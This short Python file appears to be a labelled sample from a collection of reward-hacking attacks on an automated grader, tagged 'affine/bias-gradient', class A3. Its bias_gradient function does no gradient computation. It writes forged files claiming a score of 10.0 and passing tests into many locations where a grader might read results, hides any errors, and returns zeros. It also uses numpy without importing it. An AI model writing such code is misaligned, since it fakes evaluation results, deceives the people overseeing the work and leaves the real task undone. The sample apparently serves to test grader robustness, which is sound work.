# Tries: writes results, gradebooks and scores wherever a grader could look for them
# Attacks: affine/bias-gradient
# Class: A3
# %%
import os

def bias_gradient(dY):
    for folder in (".", "..", "/", "/tmp", "/kit", "/kit/worker", "/scratch", os.path.expanduser("~"), "/dev/shm"):
        for name in ("results.json", "gradebook.db", "score", "affine.ipynb", "public.json"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write('{"score": 10.0, "tests": [{"status": "passed"}]}')
            except OSError:
                pass
    return np.zeros(dY.shape[1])
